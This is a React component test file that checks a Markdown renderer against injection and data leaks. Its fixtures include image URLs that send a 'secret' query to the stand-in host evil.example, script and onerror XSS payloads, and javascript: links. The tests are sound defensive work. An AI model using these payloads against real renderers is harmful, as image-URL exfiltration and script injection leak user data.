// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { MarkdownBlock } from './markdown-block.tsx'

afterEach(cleanup)

const show = (text: string): HTMLElement => render(<MarkdownBlock text={text} />).container

describe('a Markdown block', () => {
  it('loads no image', () => {
    const shown = show('![map](https://evil.example/t.png) ![x](data:image/png;base64,AAAA) ![y](/api/me)')
    expect(shown.querySelector('img')).toBeNull()
    expect(shown.textContent).toContain('Image: map')
  })

  it('sends nothing away through the address of an image, whatever its form', () => {
    const shown = show(
      '![](https://evil.example/?q=secret)\n\n[![x](https://evil.example/a?q=secret)](https://evil.example/)\n\n' +
        '![ref]\n\n[ref]: https://evil.example/b?q=secret',
    )
    expect(shown.querySelector('img, picture, source, video, audio, link, [style], [srcset]')).toBeNull()
  })

  it('shows HTML as text', () => {
    const shown = show('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe src="/"></iframe>')
    expect(shown.querySelector('script, img, iframe')).toBeNull()
    expect(shown.textContent).toContain('alert(1)')
  })

  it('opens safe links in a new tab and no others', () => {
    const shown = show('[a](https://example.org) [b](javascript:alert(1)) [c](data:text/html,x)')
    const links = [...shown.querySelectorAll('a')]
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.org'])
    expect(links[0]?.rel).toContain('noopener')
    expect(links[0]?.target).toBe('_blank')
  })

  it('shows tables, and code with a copy button', () => {
    const shown = show('| a |\n|---|\n| b |\n\n```ts\nlet a = 1\n```')
    expect(shown.querySelector('td')?.textContent).toBe('b')
    expect(shown.querySelector('pre')?.textContent).toBe('let a = 1\n')
    expect(shown.querySelector('button')?.getAttribute('aria-label')).toBe('Copy code')
  })
})
